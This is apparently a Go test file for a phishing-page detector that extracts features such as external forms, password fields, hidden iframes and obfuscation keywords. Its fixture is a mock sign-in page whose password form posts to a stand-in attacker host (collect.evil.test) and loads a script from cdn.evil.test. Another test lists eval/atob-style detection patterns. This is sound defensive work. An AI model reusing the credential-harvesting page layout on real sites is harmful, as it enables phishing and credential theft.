package pagefeatures

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/raysh454/qssage/internal/instrument"
	"github.com/raysh454/qssage/internal/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const phishPage = `<!doctype html>
<html><head><title> Sign in </title>
<script src="https://cdn.evil.test/a.js"></script>
<script src="/local.js"></script>
<script src="https://static.shop.example/b.js"></script>
<script>var x = 1;</script>
<script>window.location.href = "https://next.test/";</script>
</head><body>
<form action="https://collect.evil.test/post" method="post">
  <input type="text" name="user">
  <input type="PASSWORD" name="pw">
</form>
<form action="/search"><input name="q"></form>
<form action="javascript:void(0)"></form>
<iframe src="https://a.test/" width="0" height="0"></iframe>
<iframe src="https://b.test/" style="display: none"></iframe>
<iframe src="https://c.test/" style="width: 0px; border: 0"></iframe>
<iframe src="https://d.test/" hidden></iframe>
<iframe src="https://e.test/" width="300" height="200" style="opacity: 0.5"></iframe>
<img src="https://img.other.test/1.png">
<img src="/logo.png">
<img src="data:image/png;base64,AAAA">
<img src="https://cdn.shop.example/2.png">
</body></html>`

func TestExtractStatic_Phish(t *testing.T) {
	f := ExtractStatic(phishPage, "https://login.shop.example/signin")

	assert.Equal(t, "login.shop.example", f.FinalHost)
	assert.True(t, f.HTTPS)
	assert.Equal(t, "Sign in", f.Title)
	assert.Equal(t, []string{"https://collect.evil.test/post"}, f.ExternalForms)
	assert.True(t, f.HasPassword)
	assert.Equal(t, 4, f.HiddenIframes)
	// cdn.evil.test plus the navigating inline script
	assert.Equal(t, 2, f.ExternalScripts)
	assert.Equal(t, 1, f.ExternalImages)
	assert.True(t, f.StaticSuspicious)
	assert.False(t, f.HostIsIP)
}

func TestExtractStatic_CleanPage(t *testing.T) {
	html := `<html><head><title>Docs</title><script src="/app.js"></script></head>
<body><form action="/login"><input type="password"></form><img src="/a.png"></body></html>`
	f := ExtractStatic(html, "http://docs.example.org/")

	assert.Empty(t, f.ExternalForms)
	assert.True(t, f.HasPassword)
	assert.Zero(t, f.HiddenIframes)
	assert.Zero(t, f.ExternalScripts)
	assert.Zero(t, f.ExternalImages)
	assert.False(t, f.StaticSuspicious)
	assert.False(t, f.HTTPS)
}

func TestExtractStatic_BaseHrefAndHostShape(t *testing.T) {
	html := `<html><head><base href="https://other.test/"></head>
<body><form action="submit"></form></body></html>`
	f := ExtractStatic(html, "http://192.168.0.10/")

	assert.True(t, f.HostIsIP)
	assert.Equal(t, []string{"https://other.test/submit"}, f.ExternalForms)

	p := FromURL("https://xn--ggle-0nda.com/")
	assert.True(t, p.PunycodeHost)
}

func TestExtractStatic_StaticVocabulary(t *testing.T) {
	for _, src := range []string{
		`<script>var s = atob("aGk=")</script>`,
		`<div onclick="eval(x)"></div>`,
		`String.fromCharCode(104,105)`,
		`document.write('<p>')`,
	} {
		assert.True(t, ExtractStatic(src, "https://a.test/").StaticSuspicious, src)
	}
	assert.False(t, ExtractStatic(`<p>evaluation report</p>`, "https://a.test/").StaticSuspicious)
}

type fakeReader struct {
	html    string
	htmlErr error
	live    int
	evalErr error
}

func (r *fakeReader) OuterHTML(context.Context) (string, error) {
	return r.html, r.htmlErr
}

func (r *fakeReader) Evaluate(_ context.Context, expr string, out any) error {
	if r.evalErr != nil {
		return r.evalErr
	}
	switch v := out.(type) {
	case *int:
		*v = r.live
	case *string:
		*v = "live title"
	}
	return nil
}

func TestExtract_LiveIframeCountAndInstrumentation(t *testing.T) {
	obs := instrument.NewObservation(0)
	obs.MarkInstalled()
	obs.Handle(instrument.Event{Kind: instrument.KindEval, Payload: strings.Repeat("a", 60)})

	r := &fakeReader{html: `<iframe src="https://x.test/" width="0"></iframe>`, live: 3}
	f := Extract(context.Background(), r, "https://a.test/", obs, &testutil.DummyLogger{})

	assert.Equal(t, 3, f.HiddenIframes)
	assert.Equal(t, "live title", f.Title)
	assert.True(t, f.HooksInstalled)
	assert.True(t, f.EvalFlagged)
	assert.False(t, f.DecodeFlagged)
}

func TestExtract_PartialFailureDefaults(t *testing.T) {
	r := &fakeReader{htmlErr: errors.New("target closed"), evalErr: errors.New("timeout")}
	logger := &testutil.DummyLogger{}
	f := Extract(context.Background(), r, "https://a.test/", nil, logger)

	require.NotNil(t, f)
	assert.Equal(t, "a.test", f.FinalHost)
	assert.Empty(t, f.ExternalForms)
	assert.False(t, f.HasPassword)
	assert.Zero(t, f.HiddenIframes)
	assert.False(t, f.StaticSuspicious)
	assert.NotEmpty(t, logger.Warns)
}

func TestApplyInstrumentation_NotInstalled(t *testing.T) {
	f := &PageFeatures{}
	f.ApplyInstrumentation(instrument.Result{Installed: false, EvalFlagged: true})
	assert.False(t, f.EvalFlagged)
	assert.False(t, f.HooksInstalled)
}

func TestSetOrigin(t *testing.T) {
	f := FromURL("https://landing.example.com/")
	f.SetOrigin("http://10.0.0.1/redirect")
	assert.True(t, f.HostIsIP)
	assert.Equal(t, []string{"10.0.0.1", "landing.example.com"}, f.Hosts())
}
